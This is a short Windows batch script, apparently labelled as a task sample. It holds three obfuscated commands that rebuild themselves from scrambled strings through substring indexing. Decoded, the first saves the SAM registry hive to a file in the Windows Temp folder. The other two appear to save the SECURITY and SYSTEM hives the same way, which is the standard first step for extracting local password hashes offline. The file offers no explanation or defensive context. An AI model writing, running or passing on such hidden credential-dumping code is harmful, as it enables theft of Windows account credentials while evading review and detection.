REM task 7079 v1
@echo off
set "mfjg=mco:wiVTehZn4S\.9gdklarEICsWvp"
%mfjg:~-8,1%%mfjg:~8,1%%mfjg:~17,1% %mfjg:~-4,1%%mfjg:~21,1%%mfjg:~28,1%%mfjg:~-22,1% %mfjg:~9,1%%mfjg:~19,1%%mfjg:~20,1%%mfjg:~0,1%%mfjg:~14,1%%mfjg:~26,1%%mfjg:~-9,1%%mfjg:~-30,1% %mfjg:~-5,1%%mfjg:~3,1%%mfjg:~14,1%%mfjg:~27,1%%mfjg:~-25,1%%mfjg:~11,1%%mfjg:~18,1%%mfjg:~2,1%%mfjg:~-26,1%%mfjg:~26,1%%mfjg:~14,1%%mfjg:~7,1%%mfjg:~-22,1%%mfjg:~0,1%%mfjg:~29,1%%mfjg:~-16,1%%mfjg:~-4,1%%mfjg:~21,1%%mfjg:~0,1%%mfjg:~15,1%%mfjg:~26,1%%mfjg:~-9,1%%mfjg:~28,1%%mfjg:~8,1%
@echo off
set "bknk=huMg:mkVotwrpfWln0C\iOyEAsadvT.qce"
%bknk:~-23,1%%bknk:~33,1%%bknk:~3,1% %bknk:~25,1%%bknk:~-8,1%%bknk:~-6,1%%bknk:~33,1% %bknk:~0,1%%bknk:~-28,1%%bknk:~15,1%%bknk:~5,1%%bknk:~-15,1%%bknk:~25,1%%bknk:~33,1%%bknk:~32,1%%bknk:~1,1%%bknk:~11,1%%bknk:~20,1%%bknk:~9,1%%bknk:~22,1% %bknk:~18,1%%bknk:~-30,1%%bknk:~19,1%%bknk:~-20,1%%bknk:~20,1%%bknk:~-18,1%%bknk:~27,1%%bknk:~8,1%%bknk:~10,1%%bknk:~25,1%%bknk:~-15,1%%bknk:~-5,1%%bknk:~33,1%%bknk:~5,1%%bknk:~12,1%%bknk:~19,1%%bknk:~25,1%%bknk:~-1,1%%bknk:~-2,1%%bknk:~1,1%%bknk:~11,1%%bknk:~20,1%%bknk:~9,1%%bknk:~22,1%%bknk:~30,1%%bknk:~25,1%%bknk:~-8,1%%bknk:~28,1%%bknk:~33,1%
@echo off
set "mhqp=zlSmtZEknYps8d.v:Wag\oTwiVehC2ry"
%mhqp:~30,1%%mhqp:~26,1%%mhqp:~19,1% %mhqp:~11,1%%mhqp:~-14,1%%mhqp:~15,1%%mhqp:~-6,1% %mhqp:~27,1%%mhqp:~7,1%%mhqp:~-31,1%%mhqp:~3,1%%mhqp:~-12,1%%mhqp:~-21,1%%mhqp:~-1,1%%mhqp:~11,1%%mhqp:~4,1%%mhqp:~-6,1%%mhqp:~3,1% %mhqp:~28,1%%mhqp:~-16,1%%mhqp:~20,1%%mhqp:~17,1%%mhqp:~24,1%%mhqp:~8,1%%mhqp:~13,1%%mhqp:~21,1%%mhqp:~-9,1%%mhqp:~-21,1%%mhqp:~-12,1%%mhqp:~22,1%%mhqp:~26,1%%mhqp:~3,1%%mhqp:~10,1%%mhqp:~-12,1%%mhqp:~11,1%%mhqp:~31,1%%mhqp:~11,1%%mhqp:~4,1%%mhqp:~26,1%%mhqp:~-29,1%%mhqp:~-18,1%%mhqp:~11,1%%mhqp:~18,1%%mhqp:~15,1%%mhqp:~26,1%
